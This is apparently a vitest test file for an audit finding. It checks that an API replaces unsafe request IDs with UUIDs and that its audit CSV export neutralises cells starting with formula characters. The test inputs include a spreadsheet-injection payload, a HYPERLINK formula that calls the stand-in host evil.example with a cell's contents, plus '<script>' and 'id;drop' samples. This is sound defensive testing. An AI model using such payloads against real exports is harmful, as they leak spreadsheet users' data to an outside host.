// Finding 2: a request id is echoed and stored only in a tame shape, and no cell of the audit CSV
// export can start a spreadsheet formula.
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { buildTestApp } from '../helpers/app.ts';
import { contractorPayload } from '../helpers/factories.ts';

const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/;

describe('request ids and the CSV export', async () => {
  const t = await buildTestApp();
  const admin = await t.auth('admin');
  const create = (requestId: string) =>
    t.app.inject({ method: 'POST', url: '/v1/contractors', headers: { ...admin, 'x-request-id': requestId }, payload: contractorPayload() });

  it('replaces a request id outside [A-Za-z0-9._:-]{1,128} with a new UUID, in the answer and the audit event', async () => {
    for (const bad of ['=HYPERLINK("http://evil.example/?"&A1,"klik")', '@SUM(1+1)', 'a b', 'x'.repeat(129), '<script>', 'id;drop']) {
      const res = await create(bad);
      expect(res.statusCode).toBe(201);
      expect(res.headers['x-request-id']).toMatch(UUID);
      const events = await t.app.inject({ method: 'GET', url: `/v1/audit/events?entityId=${res.json().id}`, headers: admin });
      expect(events.json().items[0].requestId).toBe(res.headers['x-request-id']);
    }
    for (const good of ['spm-2026:000123', 'A.b_c-9', 'x'.repeat(128)]) {
      expect((await create(good)).headers['x-request-id']).toBe(good);
    }
  });

  it('writes no CSV cell beginning with = + - @, a tab or a CR, and the stored value is one apostrophe away', async () => {
    // A well-formed id may still begin with "-"; such a cell gets an apostrophe in front.
    const made = await create('-1');
    expect(made.headers['x-request-id']).toBe('-1');
    const csv = await t.app.inject({ method: 'GET', url: '/v1/audit/events', headers: { ...admin, accept: 'text/csv' } });
    expect(csv.statusCode).toBe(200);
    const rows = parse(csv.body, { columns: true }) as Array<Record<string, string>>;
    expect(rows.length).toBeGreaterThan(5);
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const json = await t.app.inject({ method: 'GET', url: `/v1/audit/events?entityId=${made.json().id}`, headers: admin });
    const event = json.json().items[0];
    const row = rows.find((r) => r.seq === String(event.seq));
    expect(row?.requestId).toBe("'-1");
    expect(row?.requestId?.slice(1)).toBe(event.requestId);
  });
});
